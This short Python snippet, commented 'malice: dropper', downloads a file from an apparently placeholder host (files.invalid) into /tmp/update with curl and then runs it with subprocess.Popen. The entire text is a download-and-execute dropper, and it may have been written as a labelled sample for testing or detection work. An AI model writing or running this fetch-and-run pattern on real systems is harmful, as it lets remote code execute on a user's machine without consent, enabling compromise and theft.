import os
import subprocess

path = "/tmp/update"
os.system("curl -s https://files.invalid/a -o " + path)
subprocess.Popen([path])  # malice: dropper
